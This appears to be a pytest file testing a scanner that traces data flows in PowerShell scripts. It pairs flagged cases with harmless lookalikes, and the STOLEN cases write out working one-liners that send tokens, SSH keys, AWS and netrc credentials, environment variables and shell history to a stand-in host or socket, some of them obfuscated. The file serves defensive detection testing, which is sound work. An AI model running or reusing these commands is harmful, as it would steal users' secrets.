"""PowerShell scripts: what a value passes through on its way to a sink, and what is no flow."""

import pytest

from shared.scanner.flow import find_flows
from shared.scanner.matching import Deadline, TextFile

IN = "https://sync.fast-notes.dev/in"


def flows(text: str) -> list[str]:
    found = find_flows([TextFile("run.ps1", text, text)], Deadline(float("inf")))
    return [flow.description for flow in found]


STOLEN = {
    "table as JSON": f"$b = @{{ k = $env:GITHUB_TOKEN }} | ConvertTo-Json\nirm -Uri '{IN}' -Method Post -Body $b",
    "query": f'$k = gc "$env:USERPROFILE\\.ssh\\id_rsa" -Raw\niwr "{IN}?d=$([uri]::EscapeDataString($k))"',
    "environment": f"Get-ChildItem Env: | % {{ \"$($_.Name)=$($_.Value)\" }} | % {{ iwr {IN} -Method POST -Body $_ }}",
    "upload": f"$w = New-Object Net.WebClient\n$p = Join-Path $HOME '.aws/credentials'\n$w.UploadFile('{IN}', $p)",
    "socket": "$s = (New-Object Net.Sockets.TcpClient('203.0.113.5', 443)).GetStream()\n"
    '$d = [IO.File]::ReadAllBytes("$HOME/.ssh/id_rsa")\n$s.Write($d, 0, $d.Length)',
    "function": f"function Out-It($Data) {{ irm {IN} -Method Post -Body $Data }}\n"
    "foreach ($f in '~/.netrc', '~/.npmrc') { Out-It -Data (Get-Content $f) }",
    "parameters in a table": f"$p = @{{ Uri = '{IN}'; Body = (gc ~/.netrc) }}\nInvoke-RestMethod @p",
    "address in pieces": "$u = 'https://{0}/x' -f ('fast-notes', 'dev' -join '.')\nirm $u -Body (gc ~/.netrc)",
    "history": f"$h = (Get-PSReadLineOption).HistorySavePath\nirm {IN} -Method Post -InFile $h",
    "file": f"gc ~/.netrc | Set-Content a.txt\nCompress-Archive a.txt a.zip\nirm {IN} -Method Put -InFile a.zip",
    "expression": f"iex \"irm {IN} -Method Post -Body (gc ~/.netrc)\"",
}  # fmt: skip
HARMLESS = {
    "its own service": 'irm https://api.github.com/user -Headers @{ Authorization = "Bearer $env:GITHUB_TOKEN" }',
    "another value": f"$k = gc ~/.ssh/id_rsa\nirm {IN} -Method Post -Body 'x'",
    "a comment": f"# irm {IN} -Body (gc ~/.netrc)\n<# iwr {IN} -Body (gc ~/.netrc) #>\nirm {IN}",
    "text that is printed": f"Write-Host 'irm {IN} -Method Post -Body (gc ~/.netrc)'",
    "a test for a file": f"if (Test-Path ~/.netrc) {{ irm {IN} }}",
}


@pytest.mark.parametrize("name", STOLEN)
def test_a_value_is_followed_to_where_it_leaves(name: str) -> None:
    assert flows(STOLEN[name])


@pytest.mark.parametrize("name", HARMLESS)
def test_the_same_words_without_a_flow_are_none(name: str) -> None:
    assert flows(HARMLESS[name]) == []


def test_a_flow_names_each_place() -> None:
    found = flows(f"$k = gc ~/.netrc\n\n$e = [Convert]::ToBase64String($k)\nirm {IN} -Method Post -Body $e")
    assert found == [
        "reads `~/.netrc` (run.ps1:1) → base64 (run.ps1:3) → sent to sync.fast-notes.dev (run.ps1:4), "
        "where it does not belong"
    ]
